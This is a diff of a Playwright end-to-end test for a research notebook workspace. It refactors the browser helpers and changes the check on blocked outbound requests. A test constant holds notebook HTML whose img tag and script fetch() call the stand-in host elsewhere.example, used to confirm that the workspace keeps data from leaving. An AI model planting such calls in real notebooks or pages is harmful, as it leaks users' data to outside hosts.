@@ -5,30 +5,19 @@ Whatever a page shows, the browser sends requests to the lab alone.
 
 from __future__ import annotations
 
-from collections.abc import Iterator
 from pathlib import Path
-from urllib.parse import urlsplit
 
 import pytest
-from playwright.sync_api import Browser, Page, Request, sync_playwright
+from playwright.sync_api import Browser
 
 from credit.keys import KeyRing
 from credit.seal import Kind
 from credit.shelf import Shelf
 from infra import lab_services as on_this_machine
-from tests.lab.workspace.conftest import DAY, Lab, password
-from tests.lab.workspace.workspace_client import second_factor
+from tests.lab.workspace.browser_page import BrowserPage, run
+from tests.lab.workspace.conftest import DAY, Lab
 
 pytestmark = pytest.mark.servers
-CHROMIUM = "/usr/bin/chromium"
-QUIET = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--no-first-run",
-]
 LOOK = "import lab\nlab.catalogue('penalty')"
 FEATURE = """%%features fresh
 SELECT subject, count(*) AS fresh_penalties FROM administrative_penalty
@@ -53,58 +42,9 @@ CALLS_HOME = """from IPython.display import HTML
 HTML('<img src="https://elsewhere.example/?rows=1"><script>fetch("https://elsewhere.example/2")</script><p>shown</p>')"""
 
 
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    assert Path(CHROMIUM).exists(), (
-        "install Chromium (apt-get install chromium), or leave this test out with -k 'not day'"
-    )
-    with sync_playwright() as playwright:
-        started = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
-        yield started
-        started.close()
-
-
-class BrowserPage:
-    """The browser of one user, which records every address that it requests."""
-
-    def __init__(self, browser: Browser, lab: Lab, user: str, start: str) -> None:
-        self.requests: list[Request] = []
-        self.page: Page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
-        self.page.set_default_timeout(120_000)
-        self.page.on("request", lambda request: self.requests.append(request))
-        self.page.goto(f"{lab.url}{start}")
-        self.page.fill("#username_input", user)
-        self.page.fill("#password_input", password(user))
-        self.page.click("#login_submit")
-        self.page.wait_for_url(lambda url: "/hub/login" not in url)
-        if "second-factor" in self.page.url:
-            self.page.fill("#code_input", second_factor(lab.home, user))
-            self.page.click("#code_submit")
-
-    def hosts_requested(self, *, blocked: bool = False) -> set[str]:
-        """The hosts of all requests, or of those that the policy of the page blocked."""
-        sent = [each for each in self.requests if each.url.startswith("http")]
-        return {str(urlsplit(each.url).hostname) for each in sent if ("csp" in (each.failure or "")) is blocked}
-
-
-def run(page: Page, code: str, seconds: float = 150) -> str:
-    """Type a cell into the open notebook, run it, wait for its end, and return its output."""
-    cell = page.locator(".jp-Notebook .jp-CodeCell").last
-    cell.locator(".cm-content").click()
-    page.keyboard.insert_text(code)
-    page.keyboard.press("Shift+Enter")
-    own_cell = page.locator(".jp-Notebook .jp-CodeCell").nth(-2)
-    own_cell.locator(".jp-InputPrompt", has_text="[*]").wait_for(state="detached", timeout=seconds * 1000)
-    page.wait_for_function(
-        "() => [...document.querySelectorAll('.jp-Notebook .jp-CodeCell')].slice(0, -1).every(c => /\\[\\d+\\]/.test(c.querySelector('.jp-InputPrompt').textContent))",
-        timeout=seconds * 1000,
-    )
-    return own_cell.locator(".jp-OutputArea").inner_text() if own_cell.locator(".jp-OutputArea-child").count() else ""
-
-
 def approve(browser: Browser, lab: Lab, who: str, parcel: str, pictures: Path) -> None:
     """A reviewer opens the parcel from the queue, reads the file to its end, and approves with a reason, twice."""
-    browser_page = BrowserPage(browser, lab, who, "/services/console/")
+    browser_page = BrowserPage(browser, lab.url, lab.home, who, "/services/console/")
     page = browser_page.page
     page.wait_for_url("**/services/console/**")
     page.goto(f"{lab.url}/services/console/parcels/{parcel}")
@@ -126,7 +66,7 @@ def approve(browser: Browser, lab: Lab, who: str, parcel: str, pictures: Path) -
 
 def test_a_researchers_day(lab: Lab, browser: Browser, mlflow_server: str, tmp_path: Path) -> None:
     with on_this_machine.zones(lab.home, mlflow_server, DAY):
-        browser_page = BrowserPage(browser, lab, "dana", "/hub/login")
+        browser_page = BrowserPage(browser, lab.url, lab.home, "dana", "/hub/login")
         page = browser_page.page
         page.locator(".jp-Launcher").wait_for(timeout=120_000)
         page.locator(".jp-LauncherCard[data-category=Notebook]").first.click()
@@ -154,7 +94,7 @@ def test_a_researchers_day(lab: Lab, browser: Browser, mlflow_server: str, tmp_p
         assert "approved" in run(page, "lab.parcels()")
         received = run(page, "got = lab.parcels()[0].collect()\nprint(got.state, got.sealed)")
         assert "received" in received
-        assert browser_page.hosts_requested(blocked=True) == {"elsewhere.example"}, "it was tried"
+        assert browser_page.hosts_requested(blocked=True) == set(), "the address did not reach the browser"
         assert browser_page.hosts_requested() == {"localhost"}, "nothing was asked of anybody else"
         page.context.close()
     sealed = received.split("received")[1].split()[0]
